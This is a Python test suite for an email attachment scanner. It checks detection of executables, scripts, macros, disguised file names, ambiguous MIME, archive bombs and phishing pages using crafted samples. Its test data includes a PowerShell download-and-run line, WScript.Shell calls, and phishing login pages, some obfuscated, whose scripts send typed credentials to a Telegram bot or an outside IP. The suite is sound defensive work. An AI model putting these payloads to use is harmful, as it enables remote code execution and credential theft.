"""Attachment scanning (HUE-11.5) on crafted, harmless samples: every file type, every
archive case, lying names, macros with real OLE/OOXML structure, limits, YARA reload."""

from __future__ import annotations

import base64
import gzip
import time
import tracemalloc
from pathlib import Path

import pytest

from congvu_guard.config import Config, ReportConfig, ScanConfig
from congvu_guard.detectors.yara_scan import YaraError, YaraScanner
from congvu_guard.engine import Engine
from congvu_guard.model import Action, Envelope
from tests import samples
from tests.helpers import EICAR, box_engine, judge


def rules_of(v) -> set[str]:
    return set(v.rules)


def one(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
    return samples.mime_message("s", [(name, ctype, data)])


@pytest.mark.parametrize(
    ("name", "data", "rule", "action"),
    [
        ("setup.exe", samples.pe_exe(), "HUE-11.5/exec", Action.REJECT),
        ("tool", samples.elf(), "HUE-11.5/exec", Action.REJECT),
        ("hoadon.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('x');",
         "HUE-11.5/script", Action.REJECT),
        ("run.vbs", b'Set o = CreateObject("WScript.Shell")\r\no.Run "calc"',
         "HUE-11.5/script", Action.REJECT),
        ("a.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
         "HUE-11.5/script", Action.REJECT),
        ("b.hta", b"<html><hta:application id=x><script>x</script></html>",
         "HUE-11.5/script", Action.REJECT),
        ("c.bat", b"@echo off\r\npowershell -c whoami\r\n", "HUE-11.5/script", Action.REJECT),
        ("tai-lieu.lnk", samples.lnk(), "HUE-11.5/lnk", Action.REJECT),
        ("hoso.iso", samples.iso(), "HUE-11.5/disk-image", Action.QUARANTINE),
        ("bao-cao.docm", samples.ooxml(macro=True), "HUE-11.5/macro", Action.QUARANTINE),
        ("bang-luong.xls", samples.xls_with_macros(), "HUE-11.5/macro", Action.QUARANTINE),
        ("thu-moi.pdf", samples.pdf(js=True), "HUE-11.5/pdf-active", Action.QUARANTINE),
        ("hoadon.html", samples.smuggling_html(), "HUE-11.5/html-smuggling",
         Action.QUARANTINE),
        ("eicar.com", EICAR, "HUE-11.5/yara", Action.REJECT),
    ],
)
def test_each_file_type_is_found_by_content(engine: Engine, name: str, data: bytes, rule: str,
                                           action: Action) -> None:
    v = judge(engine, one(name, data))
    assert rule in rules_of(v), v.findings
    assert v.action is action


@pytest.mark.parametrize(
    ("name", "data", "problem"),
    [
        ("invoice.pdf.exe", samples.pe_exe(), "double extension"),
        ("hop-dong.pdf", samples.pe_exe(), "named .pdf but is pe"),
        ("photo.jpg", samples.pe_exe(), "named .jpg but is pe"),
        ("report\u202efdp.exe", samples.pe_exe(), "bidirectional override"),
        ("scan.pdf          .js", b"new ActiveXObject('x'); eval('y')", "hidden behind"),
    ],
)
def test_names_and_types_that_lie(engine: Engine, name: str, data: bytes, problem: str) -> None:
    v = judge(engine, one(name, data))
    lies = [f for f in v.findings if f.rule == "HUE-11.5/name-lie"]
    assert any(problem in f.detail for f in lies), v.findings


@pytest.mark.parametrize("name", ["bao-cao.js . .", "bao-cao.js .", "bao-cao.vbs. . ",
                                  "bao-cao.hta..  "])
def test_a_name_ending_in_dots_and_spaces_is_judged_by_what_windows_keeps(
        engine: Engine, name: str) -> None:
    # Windows drops the trailing dots and spaces, in any mix, and runs the script; the
    # content says nothing (no script words), so only the name can tell.
    v = judge(engine, one(name, b"var a = 1;\r\n"))
    assert "HUE-11.5/bad-extension" in rules_of(v), v.findings
    assert v.action is Action.REJECT


def _part_with_headers(headers: str) -> bytes:
    return ("From: a@example.com\r\nTo: b@thuathienhue.gov.vn\r\nSubject: Ho so\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
            "--XX\r\nContent-Type: text/plain\r\n\r\nXem tep dinh kem.\r\n--XX\r\n" + headers
            + "Content-Transfer-Encoding: base64\r\n\r\ndmFyIGEgPSAxOw0K\r\n--XX--\r\n").encode()


@pytest.mark.parametrize("headers", [
    # Content-Disposition says .pdf, Content-Type's name says .js
    'Content-Type: application/octet-stream; name="bao-cao.js"\r\n'
    'Content-Disposition: attachment; filename="bao-cao.pdf"\r\n',
    # two Content-Disposition headers: Python reads the first, a client may read the last
    'Content-Type: application/octet-stream\r\n'
    'Content-Disposition: attachment; filename="bao-cao.pdf"\r\n'
    'Content-Disposition: attachment; filename="bao-cao.js"\r\n',
])
def test_a_dangerous_name_in_another_mime_header_of_the_part_is_judged(
        engine: Engine, headers: str) -> None:
    v = judge(engine, _part_with_headers(headers))
    assert any(f.rule == "HUE-11.5/bad-extension" and "bao-cao.js" in f.detail
               for f in v.findings), v.findings
    assert v.action is Action.REJECT


def test_names_that_differ_only_in_how_they_are_encoded_raise_nothing(engine: Engine) -> None:
    headers = ('Content-Type: text/plain; name="=?UTF-8?B?YsOhby1jw6FvLnR4dA==?="\r\n'
               "Content-Disposition: attachment; filename*=UTF-8''b%C3%A1o-c%C3%A1o.txt\r\n")
    v = judge(engine, _part_with_headers(headers))
    assert v.action is Action.ACCEPT and not v.findings, v.findings


@pytest.mark.parametrize("cte", [
    "Content-Transfer-Encoding:  BASE64 \r\n",
    "Content-Transfer-Encoding: base64 (encoded)\r\n",
    'Content-Transfer-Encoding: "base64"\r\n',
    "Content-Transfer-Encoding: base64; x=1\r\n",
    # repeated: the standard library reads the first, a client may read the second
    "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n",
])
def test_a_transfer_encoding_written_oddly_is_decoded_as_clients_decode_it(
        engine: Engine, cte: str) -> None:
    import base64

    encoded = base64.encodebytes(samples.pe_exe()).decode().replace("\n", "\r\n")
    raw = ("From: a@example.com\r\nTo: b@thuathienhue.gov.vn\r\nSubject: Ho so\r\n"
           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
           "--XX\r\nContent-Type: text/plain\r\n\r\nXem tep.\r\n--XX\r\n"
           "Content-Type: application/octet-stream\r\n"
           'Content-Disposition: attachment; filename="ho-so.dat"\r\n' + cte + "\r\n"
           + encoded + "--XX--\r\n").encode()
    v = judge(engine, raw)
    assert "HUE-11.5/exec" in rules_of(v), v.findings
    assert v.action is Action.REJECT


def _exe_behind(top_headers: str, boundary_line: str = "--XX") -> bytes:
    import base64

    encoded = base64.encodebytes(samples.pe_exe()).decode().replace("\n", "\r\n")
    inner = (f"{boundary_line}\r\nContent-Type: text/plain\r\n\r\nXem tep.\r\n"
             f"{boundary_line}\r\nContent-Type: application/octet-stream\r\n"
             'Content-Disposition: attachment; filename="ho-so.exe"\r\n'
             "Content-Transfer-Encoding: base64\r\n\r\n" + encoded + f"{boundary_line}--\r\n")
    return ("From: a@example.com\r\nTo: b@thuathienhue.gov.vn\r\nSubject: Ho so\r\n"
            "MIME-Version: 1.0\r\n" + top_headers + "\r\n" + inner).encode()


@pytest.mark.parametrize("top", [
    # the parser reads the first Content-Type (text), a client may read the multipart one
    "Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=XX\r\n",
    # the parser takes the first boundary, which no line uses; a client may take the second
    "Content-Type: multipart/mixed; boundary=YY; boundary=XX\r\n",
])
def test_mime_a_client_can_read_otherwise_than_the_scanner_is_quarantined(
        engine: Engine, top: str) -> None:
    v = judge(engine, _exe_behind(top))
    assert "CG-MIME-AMBIGUOUS" in rules_of(v), v.findings
    assert v.action is Action.QUARANTINE


@pytest.mark.parametrize(("ctype", "cte"), [("message/rfc822", "base64"),
                                           ("message/global", "base64"),
                                           ("message/rfc822", "quoted-printable")])
def test_an_attached_message_in_base64_or_quoted_printable_is_decoded_and_judged(
        engine: Engine, ctype: str, cte: str) -> None:
    # RFC 2046 forbids it for message/rfc822 (RFC 6532 allows it for message/global); the
    # standard library read the encoded text as the message, clients decode it.
    import base64
    import quopri

    attached = _exe_behind("Content-Type: multipart/mixed; boundary=XX\r\n")
    body = base64.encodebytes(attached) if cte == "base64" else quopri.encodestring(attached)
    raw = (b"From: a@example.com\r\nTo: b@thuathienhue.gov.vn\r\nSubject: Fwd\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=ZZ\r\n\r\n"
           b"--ZZ\r\nContent-Type: " + ctype.encode() + b"\r\nContent-Transfer-Encoding: "
           + cte.encode() + b"\r\n\r\n" + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
           + b"\r\n--ZZ--\r\n")
    v = judge(engine, raw)
    assert "HUE-11.5/exec" in rules_of(v), v.findings
    assert v.action is Action.REJECT


def test_repeated_content_types_that_change_no_structure_are_not_ambiguous(
        engine: Engine) -> None:
    # A web form's mailer that sets text/html over its library's text/plain: common, harmless.
    raw = (b"From: a@example.com\r\nTo: b@thuathienhue.gov.vn\r\nSubject: Thong bao\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
           b"Content-type: text/html; charset=UTF-8\r\n\r\n<p>Xin chao</p>\r\n")
    v = judge(engine, raw)
    assert "CG-MIME-AMBIGUOUS" not in rules_of(v)
    assert v.action is Action.ACCEPT


def test_declared_type_that_lies(engine: Engine) -> None:
    v = judge(engine, one("anh", samples.pe_exe(), "image/png"))
    assert any("declared image/png but is pe" in f.detail for f in v.findings)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("bao-cao.docx", samples.ooxml(macro=False)),
        ("cong-van.doc", samples.plain_ole_doc()),
        ("thu-moi.pdf", samples.pdf(js=False)),
        ("ghi-chu.txt", "Kính gửi các đơn vị.".encode()),
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100),
    ],
)
def test_clean_documents_pass(engine: Engine, name: str, data: bytes) -> None:
    v = judge(engine, one(name, data))
    assert v.action is Action.ACCEPT, v.findings


@pytest.mark.parametrize(
    ("wrap", "rule"),
    [
        (lambda: samples.zip_of({"a/setup.exe": samples.pe_exe()}), "HUE-11.5/exec"),
        (lambda: samples.tar_gz({"x/run.js": b"new ActiveXObject('a'); eval('b')"}),
         "HUE-11.5/script"),
        (lambda: samples.seven_zip({"doc.docm": samples.ooxml(macro=True)}), "HUE-11.5/macro"),
        (lambda: samples.zip_of({"in.zip": samples.zip_of({"eicar.com": EICAR})}),
         "HUE-11.5/yara"),
    ],
)
def test_archives_are_opened_recursively(engine: Engine, wrap, rule: str) -> None:
    v = judge(engine, one("goi.bin", wrap()))
    assert rule in rules_of(v), v.findings
    paths = [f.fact("path") for f in v.findings if f.rule == rule]
    assert any(":" in p for p in paths)  # the member is named: 2/goi.bin:member


@pytest.mark.parametrize(("name", "make"), [
    ("hoa-don.bz2", lambda: samples.compressed(samples.pe_exe(), "bzip2")),
    ("hoa-don.pdf.xz", lambda: samples.compressed(samples.pe_exe(), "xz")),
    ("hoa-don.zst", lambda: samples.compressed(samples.pe_exe(), "zstd")),
    ("hoa-don.lzma", lambda: samples.compressed(samples.pe_exe(), "lzma")),
    ("ho-so.tar.bz2", lambda: samples.tar_gz({"ho-so/hoa-don.exe": samples.pe_exe()}, "bz2")),
    ("ho-so.txz", lambda: samples.tar_gz({"ho-so/hoa-don.pdf": samples.pe_exe()}, "xz")),
    ("ho-so.tar.zst", lambda: samples.compressed(
        samples.tar_gz({"ho-so/hoa-don.exe": samples.pe_exe()}, ""), "zstd")),
])
def test_bzip2_xz_lzma_and_zstd_streams_are_opened(engine: Engine, name: str, make) -> None:
    """Windows 11's Explorer, 7-Zip and WinRAR open them; until 2026-12-02 an executable
    inside one passed as an opaque binary file."""
    v = judge(engine, one(name, make()))
    assert "HUE-11.5/exec" in rules_of(v) and v.action is Action.REJECT, v.findings
    paths = [f.fact("path") for f in v.findings if f.rule == "HUE-11.5/exec"]
    assert all(p.count(":") >= 1 for p in paths), paths


@pytest.mark.parametrize("first", [b"", b"Kinh gui cac don vi. " * 10])
def test_every_member_of_a_gzip_is_read_after_a_short_first_one(engine: Engine,
                                                                first: bytes) -> None:
    data = gzip.compress(first) + gzip.compress(samples.pe_exe())
    assert gzip.decompress(data).endswith(samples.pe_exe())  # as gunzip and 7-Zip read it
    v = judge(engine, one("hoa-don.gz", data))
    assert rules_of(v) & {"HUE-11.5/exec", "HUE-11.5/yara"}, v.findings  # YARA: PE after text
    assert v.action is Action.REJECT


def _big_dictionary(stream: bytes) -> bytes:
    return stream[:1] + (3 << 29).to_bytes(4, "little") + stream[5:]


@pytest.mark.parametrize(("name", "data", "rule"), [
    ("so-lieu.bz2", samples.compressed(b"\0" * (64 << 20), "bzip2"), "HUE-11.5/archive-bomb"),
    ("so-lieu.zst", samples.compressed(b"\0" * (64 << 20), "zstd"), "HUE-11.5/archive-bomb"),
    ("so-lieu.xz", samples.compressed(samples.pe_exe(), "xz")[:40], "HUE-11.5/archive-unreadable"),
    ("so-lieu.bz2", b"BZh91AY&SY" + b"\x11" * 500, "HUE-11.5/archive-unreadable"),
    # A 1.5 GiB dictionary: libarchive takes no filter and its raw reader gave the
    # compressed bytes back as the content, which passed; 7-Zip decodes it.
    ("so-lieu.lzma", _big_dictionary(samples.compressed(samples.pe_exe(), "lzma")),
     "HUE-11.5/archive-unreadable"),
], ids=["bzip2-bomb", "zstd-bomb", "xz-cut", "bzip2-damaged", "lzma-big-dictionary"])
def test_compressed_stream_bombs_and_damage_are_findings(engine: Engine, name: str, data: bytes,
                                                         rule: str) -> None:
    v = judge(engine, one(name, data))
    assert rule in rules_of(v) and v.action is Action.QUARANTINE, v.findings


@pytest.mark.parametrize(("name", "head"), [
    ("ho-so.arj", b"\x60\xea\x2a\x00\x1e\x07\x01\x00\x10\x00\x02"),  # ARJ main header
    ("ho-so.lzh", b"\x25\x5a-lh5-"),  # LHA level 0 header
    ("ho-so.ace", b"\x00\x00\x00\x00\x00\x00\x00**ACE**"),
])
def test_an_archive_format_the_scanner_does_not_open_is_unreadable(engine: Engine, name: str,
                                                                   head: bytes) -> None:
    """7-Zip or WinRAR open these; until 2026-12-02 one holding an executable passed."""
    v = judge(engine, one(name, head + bytes(range(256)) * 4))
    assert "HUE-11.5/archive-unreadable" in rules_of(v), v.findings
    assert v.action is Action.QUARANTINE


def test_a_known_format_under_such_a_name_is_opened_not_refused(engine: Engine) -> None:
    v = judge(engine, one("ho-so.z", samples.tar_gz({"hoa-don.exe": samples.pe_exe()})))
    assert "HUE-11.5/exec" in rules_of(v) and "HUE-11.5/archive-unreadable" not in rules_of(v)


def test_eicar_four_levels_deep_in_messages_inside_zips(engine: Engine) -> None:
    inner = samples.mime_message("level 4", [("eicar.com", "application/octet-stream", EICAR)])
    for level in (3, 2, 1):
        z = samples.zip_of({f"thu-{level}.eml": inner})
        inner = samples.mime_message(f"level {level}", [(f"goi-{level}.zip",
                                                         "application/zip", z)])
    v = judge(engine, inner)
    [hit] = [f for f in v.findings if f.rule == "HUE-11.5/yara"]
    assert v.action is Action.REJECT
    assert hit.fact("path").count(":") >= 5, hit.fact("path")


def test_nesting_past_the_limit_is_a_finding() -> None:
    e = Engine(Config(scan=ScanConfig(max_depth=2), report=ReportConfig(address="t@hue.gov.vn")))
    data = EICAR
    for i in range(6):
        data = samples.zip_of({f"l{i}.zip" if i else "eicar.com": data})
    v = judge(e, one("deep.zip", data))
    assert "HUE-11.5/archive-limit" in rules_of(v)
    assert v.action is Action.QUARANTINE


def test_zip_bomb_is_a_finding_within_time_and_memory(engine: Engine) -> None:
    bomb = samples.zip_bomb(50)
    assert len(bomb) < 200_000
    tracemalloc.start()
    t0 = time.monotonic()
    v = judge(engine, one("bomb.zip", bomb))
    elapsed = time.monotonic() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "HUE-11.5/archive-bomb" in rules_of(v)
    assert v.action is Action.QUARANTINE
    assert peak < 40 * 1024 * 1024, peak  # the 50 MiB were never expanded
    assert elapsed < 30  # generous bound: a hang would be minutes


def test_many_members_hit_the_member_limit() -> None:
    e = Engine(Config(scan=ScanConfig(max_members=20)))
    v = judge(e, one("many.zip", samples.zip_of({f"f{i}.txt": b"x" for i in range(50)})))
    assert "HUE-11.5/archive-limit" in rules_of(v)


def test_encrypted_archives_are_findings_with_the_password_lure(engine: Engine) -> None:
    z = samples.encrypted_zip("hoadon.pdf", samples.pe_exe())
    v = judge(engine, samples.mime_message(
        "Hoa don", [("hoadon.zip", "application/zip", z)],
        body="Mật khẩu giải nén: 123456"))
    [f] = [f for f in v.findings if f.rule == "HUE-11.5/encrypted-archive"]
    assert "password given in the message body" in f.detail
    assert v.action is Action.QUARANTINE
    v7 = judge(engine, one("a.7z", samples.seven_zip({"a.txt": b"secret"}, password="pw")))
    assert "HUE-11.5/encrypted-archive" in rules_of(v7)
    quiet = judge(engine, samples.mime_message("x", [("z.zip", "application/zip", z)],
                                               body="Xem tep."))
    [f] = [f for f in quiet.findings if f.rule == "HUE-11.5/encrypted-archive"]
    assert "password" not in f.detail


def test_unreadable_archive_is_quarantined_not_tagged(engine: Engine) -> None:
    """What the scanner cannot see into is not delivered (issue 14): MEDIUM, quarantine."""
    v = judge(engine, one("broken.zip", b"PK\x05\x06" + b"\xff" * 200))
    assert "HUE-11.5/archive-unreadable" in rules_of(v)
    assert v.action is Action.QUARANTINE


def test_policy_tables_decide_by_rule_then_severity_per_direction() -> None:
    e = box_engine({"policy": {
        "inbound": {"medium": "tag", "HUE-11.5/exec": "quarantine"},
        "outbound": {"medium": "reject"}}})
    macro = samples.macro_message("x")
    assert judge(e, macro).action is Action.TAG
    exe = one("a.exe", samples.pe_exe())
    assert judge(e, exe).action is Action.QUARANTINE
    out_env = Envelope(sender="bob@hue.gov.vn", recipients=["x@example.net"],
                       auth_user="bob", hop="submission")
    assert judge(e, macro, out_env).action is Action.REJECT


def test_unknown_policy_key_is_a_config_error() -> None:
    from congvu_guard.config import ConfigError, from_mapping

    with pytest.raises(ConfigError, match="severe"):
        Engine(from_mapping({"policy": {"inbound": {"severe": "reject"}}}))


def test_yara_reload_keeps_the_old_rules_when_a_file_is_broken(tmp_path: Path) -> None:
    (tmp_path / "local.yar").write_text(
        'rule Local_Marker { meta: severity = "high" strings: $a = "CONGVU-TEST-MARKER" '
        "condition: $a }")
    scanner = YaraScanner([str(tmp_path)], timeout_seconds=5)
    assert [m.rule for m in scanner.match(b"xx CONGVU-TEST-MARKER xx")] == ["Local_Marker"]
    (tmp_path / "broken.yar").write_text("rule Broken { condition: $nothing_defined }")
    assert scanner.reload() is False
    assert [m.rule for m in scanner.match(b"CONGVU-TEST-MARKER")] == ["Local_Marker"]
    (tmp_path / "broken.yar").unlink()
    (tmp_path / "local.yar").write_text('rule Local_Two { strings: $a = "OTHER" condition: $a }')
    assert scanner.reload() is True
    assert [m.rule for m in scanner.match(b"OTHER CONGVU-TEST-MARKER")] == ["Local_Two"]


def test_a_bad_rule_file_is_a_clear_start_up_error(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule { nope")
    with pytest.raises(YaraError, match=r"bad\.yar"):
        YaraScanner([str(tmp_path)], timeout_seconds=5)
    with pytest.raises(YaraError, match="does not exist"):
        YaraScanner([str(tmp_path / "missing")], timeout_seconds=5)


# Credential-phishing pages (rules/phishing.yar) -------------------------------------------------
_LOGIN = (b'<html><head><meta charset="utf-8"><title>Thu dien tu cong vu</title></head><body>'
          b'<h2>Dang nhap de xem tai lieu</h2><input id="e" type="email">'
          b'<input id="p" type="password"><button onclick="go()">Xem</button>')
_PHISH_PAGES = {
    # No lure phrase from any list, sent by script to a Telegram bot: passed until 2026-12-02.
    "telegram-bot": _LOGIN + b"<script>function go(){fetch('https://api.telegram.org/bot1:x/"
                             b"sendMessage?chat_id=1&text='+e.value+':'+p.value)}</script>"
                             b"</body></html>",
    "xhr": _LOGIN + b"<script>function go(){var x=new XMLHttpRequest();x.open('POST',"
                    b"'https://203.0.113.5/n.php');x.send(e.value+p.value)}</script></body></html>",
    "form": b'<html><body><form action="https://203.0.113.5/a.php" method="post">'
            b'<input name="u"><input type="password" name="p"></form></body></html>',
}


def _obfuscated(page: bytes, how: str) -> bytes:
    if how == "unescape":
        call = b"unescape('" + b"".join(b"%%%02X" % c for c in page) + b"')"
    else:
        call = b"atob('" + base64.b64encode(page) + b"')"
    return b"<html><body><script>document.write(" + call + b");</script></body></html>"


@pytest.mark.parametrize("name", sorted(_PHISH_PAGES))
def test_a_login_page_that_sends_the_password_out_is_quarantined(engine: Engine,
                                                                 name: str) -> None:
    v = judge(engine, one("xem-tai-lieu.html", _PHISH_PAGES[name], "text/html"))
    [hit] = [f for f in v.findings if f.rule == "HUE-11.5/yara"]
    assert "Phishing_Credential_Form" in hit.detail and v.action is Action.QUARANTINE


@pytest.mark.parametrize("how", ["unescape", "atob"])
def test_a_page_that_writes_itself_out_of_an_encoded_string_is_quarantined(
        engine: Engine, how: str) -> None:
    page = _obfuscated(_PHISH_PAGES["telegram-bot"], how)
    assert b"password" not in page
    v = judge(engine, one("hoa-don.htm", page, "text/html"))
    hits = [f.detail for f in v.findings if f.rule == "HUE-11.5/yara"]
    assert any("Phishing_Obfuscated_Page" in d for d in hits), v.findings
    assert v.action is Action.QUARANTINE


def test_pages_with_a_search_form_a_password_field_alone_or_a_request_alone_pass(
        engine: Engine) -> None:
    pages = [
        b'<html><body><form action="https://hue.gov.vn/tim-kiem"><input name="q"></form>'
        b"</body></html>",
        b'<html><body><p>Huong dan doi mat khau:</p><input type="password" disabled>'
        b"</body></html>",
        b"<html><body><script>var x=new XMLHttpRequest();x.open('GET','/lich-hop.json')"
        b"</script></body></html>",
        b"<html><body><script>document.write('<p>Ngay ' + new Date() + '</p>')</script>"
        b"</body></html>",
    ]
    for page in pages:
        v = judge(engine, one("trang.html", page, "text/html"))
        assert v.action is Action.ACCEPT, (page, v.findings)
